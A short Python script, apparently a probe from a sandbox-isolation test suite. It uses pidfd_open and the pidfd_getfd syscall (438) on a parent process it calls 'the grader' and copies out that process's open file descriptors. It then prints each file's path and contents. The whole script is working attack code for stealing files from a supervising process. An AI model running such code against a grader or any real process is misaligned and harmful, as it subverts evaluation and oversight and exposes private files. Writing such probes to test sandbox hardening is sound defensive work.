# Takes open files out of the grader's process with pidfd_getfd, and reads them.
# aim: read
# %% first
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
try:
    process = os.pidfd_open(int("@PARENT@"))
except OSError as error:
    process = -1
    print(error)
for number in range(64):
    stolen = libc.syscall(438, process, number, 0)
    if stolen >= 0:
        try:
            print(number, os.readlink(f"/proc/self/fd/{stolen}"), os.pread(stolen, 20000, 0))
        except OSError as error:
            print(number, error)
        os.close(stolen)
